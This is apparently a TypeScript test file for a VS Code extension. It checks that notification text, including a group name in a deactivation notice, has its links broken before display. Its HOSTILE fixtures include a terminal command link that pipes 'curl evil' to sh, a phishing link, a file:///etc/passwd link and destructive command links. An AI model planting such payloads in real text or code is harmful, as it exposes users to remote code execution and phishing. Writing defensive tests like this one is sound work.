import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { deactivatedMemberText } from '../../../extension/deactivated-member-notices';
import { unlinked } from '../../../extension/unlinked-text';

// The pattern VS Code's notifications use to find links in their text (parseLinkedText in
// vs/base/common/linkedText.ts, the same in the code-server build the UX suite runs).
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string) => [...text.matchAll(VSCODE_LINK)].map((m) => m[2]);

const HOSTILE = [
  '[Open the fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'see [docs](https://evil.example/phish "Official docs") now',
  '[a](file:///etc/passwd)[b](command:workbench.action.reloadWindow)',
  'before [Sign out](command:teamchat.signOut) after',
];

describe('notification text never carries a link VS Code would open', () => {
  it('breaks every link VS Code would find, and leaves other text as it was', () => {
    for (const text of HOSTILE) {
      assert.ok(links(text).length > 0, `the pattern finds the link in ${text}`);
      assert.deepEqual(links(unlinked(text)), [], text);
    }
    for (const text of ['ship it [done] (tomorrow)', 'a [note] and (an aside)', 'plain text, no brackets']) assert.equal(unlinked(text), text);
    assert.equal(unlinked('arr[0](x)'), 'arr[0] (x)', 'the one change: a space between "]" and "("');
  });

  it('a hostile group name in the deactivation notice is no link once shown', () => {
    const { text } = deactivatedMemberText({ groupId: 'g', groupName: '[Remove everyone](command:teamchat.deleteGroup)', username: 'carol', status: 'deactivated' });
    assert.equal(links(text).length, 1, 'the raw text would be a link');
    assert.deepEqual(links(unlinked(text)), []);
  });

  it('the extension shows no notification except through plain-notifications.ts (modal dialogs show plain text)', () => {
    const root = path.join(__dirname, '..', '..', '..', 'extension');
    const files = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.ts') && !f.endsWith('plain-notifications.ts'));
    const direct = files.flatMap((file) => readFileSync(path.join(root, file), 'utf8').split('\n')
      .map((line, i) => ({ where: `${file}:${i + 1}`, line }))
      .filter(({ line }) => /show(Information|Warning|Error)Message\(/.test(line) && !/\{ modal: true/.test(line)));
    assert.deepEqual(direct.map((d) => d.where), []);
  });
});
